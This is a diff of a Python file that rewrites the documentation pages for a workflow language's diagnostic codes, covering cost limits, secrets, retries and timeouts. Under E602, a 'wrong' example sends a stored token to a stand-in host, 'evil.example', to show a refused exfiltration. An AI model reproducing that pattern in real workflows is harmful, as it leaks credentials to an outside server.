@@ -6,10 +6,10 @@ from typing import Final
 
 PAGES: Final = r"""
 # E501 an expression can cost too much
-An expression may take 10,000 steps, and the compiler can see that this one needs more: loops inside
-of loops multiply. The bound is what keeps one flow from holding up all others. Visit fewer
-elements, or compute it in an action. A value may have 4 MiB as JSON; a part that `cel.bind` names
-is written out as often as it is read, and where that is certain to be too much, it is said here.
+An expression may take at most 10,000 steps, and this one needs more, because the costs of nested loops
+multiply. The limit prevents one flow from delaying all others. Visit fewer elements, or compute the
+value in an action. A value may have at most 4 MiB as JSON. A part that `cel.bind` names counts each
+time it is read; this code also reports an expression that certainly exceeds that limit.
 --- wrong
 flow show {
   let sums = [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11].map(a,
@@ -26,9 +26,9 @@ flow show {
 }
 
 # E502 flows call each other in a cycle
-A flow that called itself, directly or through others, might never end, so there is no such call,
-and no `start`; and at most eight flows are inside each other. To go on later, `emit` an event that
-starts a run of its own. To do something many times, use `for`.
+A flow must not call or `start` itself, directly or indirectly, because it might never end. Calls may be
+nested up to eight levels. To continue later, `emit` an event that starts another run. To repeat a
+step, use `for`.
 --- wrong
 flow remind(to: Email) {
   email(template: "reminder", to: to)
@@ -43,17 +43,16 @@ flow remind(to: Email) {
 }
 
 # E503 a flow is too large
-A flow may have 1,000 steps and conditions and 5,000 edges; a host may set other limits. Two wide
-`parallel` blocks in a row have as many edges as the product of their widths: put a single step
-between them. Otherwise split the flow: one emits an event that starts the next. What a run can come
-to at most is known too, and `dagflow check --bounds` prints it: where a host allows less, the loop
-or call that adds most is named, with the `max` that would do.
+A flow may have at most 1,000 steps and conditions and 5,000 edges; the host application may set other
+limits. Two wide `parallel` blocks in a row have as many edges as the product of their widths, so put a
+single step between them. Otherwise split the flow, and let one flow emit an event that starts the next.
+The host application may also limit a run. The message then names the loop or call that adds most, with
+a `max` that fits. `dagflow check --bounds` prints the upper bounds of a run.
 
-# E504 there is no limit
-A `wait event` says with `within` how long it waits, because an event may never come, and a run that
-waits for nothing would be kept for nothing. Say how long, and with `else` what happens then; without
-an `else` the flow goes on, and what the event carries may be absent. A `for` says with `max` how
-many items there may be; a longer list fails the loop before it begins.
+# E504 a limit is missing
+A `wait event` must have a `within`, because the event may never arrive. Add an `else` to handle the
+timeout; without it, the flow continues, and the payload may be absent. A `for` must have a `max`; a
+longer list fails the loop before it starts.
 --- wrong
 event "ops/incident.acked" { id: string, by: string }
 
@@ -69,11 +68,11 @@ flow incident(id: string) {
   log(message: ack.?by ?? "nobody")
 }
 
-# E505 a schedule means nothing
+# E505 an invalid schedule
 A cron schedule has five fields: minute, hour, day of the month, month, day of the week. Each is
 `*`, a number, a range `9-17`, a list `1,15`, or every so many of a range, `*/10` or `9-17/2`;
 months and days of the week have names too, `JAN` and `MON`. There are no seconds, and a schedule
-has to be due at some time. The time zone is one by its name, `Europe/Paris`; without, it is `UTC`.
+must fire at some time. The time zone is a name such as `Europe/Paris`; the default is `UTC`.
 --- wrong
 flow digest {
   on cron "0 25 * * MON"
@@ -86,9 +85,9 @@ flow digest {
 }
 
 # E601 a secret would leave the system
-A flow only holds the handle of a secret, `secrets.NAME`, and may only give it to a parameter of the
-type `Secret<string>`. It cannot be put into a text, compared or logged, so it stands in no history
-and in no message. Give it to an action that takes one.
+A flow holds only a handle of a secret, `secrets.NAME`, and may pass it only to a parameter of type
+`Secret<string>`. A flow cannot insert a secret into a text, compare it or log it, so secrets never
+appear in a history or message. Pass it to an action that takes one.
 --- wrong
 flow call(url: Url) {
   log(message: "token ${secrets.token}")
@@ -99,9 +98,9 @@ flow call(url: Url) {
 }
 
 # E602 a secret may not go there
-The host binds a secret to servers and to actions. It is sent by https only, unless the host says
-otherwise, and to no other server. What an address made of values leads to is looked at in the call,
-which then fails with the code `secret_refused`. Whoever runs this can bind the secret to more.
+The host application binds a secret to servers and actions. dagflow sends it to no other server, and
+only over https unless the binding allows http. It checks a computed address during the call, which
+then fails with the code `secret_refused`. The operator can bind the secret to more servers.
 --- wrong
 flow call {
   http.request(url: "https://evil.example/", token: secrets.crm_token)
@@ -112,8 +111,8 @@ flow call {
 }
 
 # E603 a flow may not emit this event
-The host keeps some events for itself, so that a flow cannot say in its name that something has been
-paid or approved. Emit one that flows may emit; whoever runs this can allow more of them.
+The host application reserves some events, so that a flow cannot claim, for example, that a payment was
+approved. Emit an allowed event, or ask the operator to allow this one.
 --- wrong
 event "pay/approved" { order: string }
 
@@ -127,22 +126,20 @@ flow approve(order: string) {
   emit "order/checked" (order: order)
 }
 
-# W701 a step is gone that runs know
-`dagflow check --store PATH` compares a file with the runs in progress. A name is what keeps a step
-the same, so a step that was renamed looks like a new one, and the old one is gone. Where a new step
-does what the old one did, the message names it: write `was old` behind it. Runs that are in progress
-go on as they began either way.
+# W701 unfinished runs reference a removed step
+`dagflow check --store PATH` compares a file with the unfinished runs. dagflow identifies a step by its
+name, so a renamed step looks like a new one. If a new step matches the old one, the message names it;
+write `was old` after it. Unfinished runs continue with the flow that they started with in any case.
 
-# N101 more was found than is shown
-After 200 findings the rest are only counted: nobody reads more at once, and many of them tend to
-have one cause. Correct the first ones and check again.
+# N101 further findings are not shown
+dagflow shows the first 200 findings and counts the rest, because many of them tend to have one cause.
+Fix the first ones and check again.
 
-# N501 a setting waits for a service
-`once`, `debounce`, `rate`, `concurrency`, `priority`, `cancel on`, schedules and webhooks say how runs
-begin and when they are cancelled. They are checked and kept with the flow, for a service that starts
-its runs. There is none in the library: an interpreter starts a run when the program says so, and
-takes no notice of them. Let the program apply them (`flow.policies`, `flow.triggers`), or leave them
-out. A `test` honours `cancel on`. `dagflow check --strict` counts no notes.
+# N501 the interpreter does not enforce this setting
+`once`, `debounce`, `rate`, `concurrency`, `priority`, `cancel on`, schedules and webhooks define how runs
+start and when they are cancelled. dagflow checks these settings and stores them with the flow, but the
+interpreter does not enforce them. Your program must apply them from `flow.policies` and
+`flow.triggers`. A `test` does apply `cancel on`. `dagflow check --strict` does not count notes.
 --- wrong
 flow greet(id: string) {
   concurrency 1 by id
@@ -155,10 +152,9 @@ flow greet(id: string) {
 }
 
 # N601 an imported edge prunes here
-The engine of workflow-kit skipped an action whose edge was not followed, but still ran what stands
-behind it. In a flow a condition holds for all that is behind it: what is pruned prunes on. The note
-names each edge where that makes a difference. There is nothing to do if it is what you want; else
-let an edge lead around the condition.
+workflow-kit skips an action whose edge is not followed, but still runs the actions after it. In
+dagflow, pruning propagates to all steps that depend on a pruned one. The note names each edge where
+this makes a difference. If that is not intended, add an edge that bypasses the condition.
 --- wrong
 {
   "actions": [
@@ -187,10 +183,9 @@ let an edge lead around the condition.
 }
 
 # N602 an imported action waits here
-The engine of workflow-kit ran an action as soon as the first of its edges led to it, so it could run
-before others it was to wait for. A flow waits until all of them are settled, and runs the action if
-one of the edges is followed. The note names each action where that makes a difference. There is
-nothing to do if it is what you want; else remove the edges it is not to wait for.
+workflow-kit runs an action after the first of its edges, possibly before its other predecessors.
+dagflow waits until all of them have settled, and runs the action if one of the edges is followed. The
+note names each action where this makes a difference. If that is not intended, remove the other edges.
 --- wrong
 {
   "actions": [
@@ -220,11 +215,11 @@ nothing to do if it is what you want; else remove the edges it is not to wait fo
 }
 
 # W501 a retry may repeat an effect
-A retried step may have done its work already when its answer was lost. For an action that is
-`effectful` and takes no effect key, trying again may do it twice: two messages, two charges. Let
-the action take the key, declare it `idempotent` if doing it twice does no harm, or write `on unknown
-fail` at the step: only failures that the action reports itself are retried then, and an attempt that
-a crash or a time limit cut short is not made again. `retry 0` opts a step out of the flow's `retry`.
+An attempt may have taken effect even though its answer was lost. If the action is `effectful` and takes
+no effect key, a retry may repeat the effect, such as a message or a charge. Let the action take the
+key, or declare it `idempotent` if a repetition is harmless. Alternatively, write `on unknown fail` at
+the step: then only failures that the action reports are retried, and attempts interrupted by a crash
+or time limit are not. `retry 0` opts a step out of the flow's `retry`.
 --- wrong
 action pay.charge(order: string) effectful
 
@@ -240,12 +235,11 @@ flow charge(order: string) {
     retry 5 from 1s to 1m
 }
 
-# W502 the run is over before that
-A run lives as long as the `timeout` among the settings of its flow says, 30 days if nothing is said,
-waits included; then it ends, as `failed`, with the code `run_timeout`. Here a wait or a limit is so
-long, or begins so late, that the run is over first: what comes after it, and its `else`, never run.
-Let the run live longer, or write a shorter duration. Only what is certain is counted: the waits before
-it, and for the `else` of a `wait event` its `within`.
+# W502 the run times out before this ends
+The `timeout` of a flow limits the duration of a run, including waits; the default is 30 days. The run
+then fails with the code `run_timeout`. This wait or limit ends after that, so the steps after it, and
+its `else`, never run. Raise the `timeout` of the flow, or write a shorter duration. The check counts
+only certain time, which is the waits before this step and, for the `else` of a `wait event`, its `within`.
 --- wrong
 flow remind(to: Email) {
   wait 30d
@@ -258,10 +252,10 @@ flow remind(to: Email) {
   email(template: "reminder", to: to)
 }
 
-# W602 outside text becomes an address
-A webhook brings what somebody else wrote. Where a text of it becomes an address, that somebody
-chooses whom a mail goes to, or which machine a request is sent to. Compare it first, with a list of
-addresses, or with what it has to begin or end with; or give it a type that is a set of texts.
+# W602 untrusted text becomes an address
+The payload of a webhook is untrusted. If a text in it becomes an address, the sender chooses the
+recipient of a mail, or the server of a request. Compare the text with a list of addresses or a prefix
+or suffix first, or give it an enum type.
 --- wrong
 flow subscribe {
   on webhook "subscriptions" as body: {callback: Url}
@@ -275,8 +269,8 @@ flow subscribe {
 }
 
 # W901 something is never used
-A `let` is computed and nothing reads it. Often its name is misspelt somewhere, or what used it was
-removed. Use it, or remove it.
+Nothing reads this `let`. Often its name is misspelt elsewhere, or its user was removed. Use it, or
+remove it.
 --- wrong
 flow greet {
   let discount = 0.1
